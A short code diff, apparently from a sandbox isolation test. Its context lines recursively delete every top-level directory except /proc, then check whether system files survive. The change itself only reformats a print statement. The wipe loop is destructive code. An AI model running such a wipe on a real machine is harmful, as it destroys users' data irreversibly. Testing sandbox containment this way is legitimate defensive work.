@@ -7,4 +7,6 @@ import shutil
 for top in os.listdir("/"):
     if top != "proc":
         shutil.rmtree("/" + top, ignore_errors=True)
-print("still here" if os.path.exists("/usr/bin/python3") and os.path.exists("/etc/passwd") and not os.path.exists("/work/main.py") else "gone")
+print(
+    "still here" if os.path.exists("/usr/bin/python3") and os.path.exists("/etc/passwd") and not os.path.exists("/work/main.py") else "gone"
+)
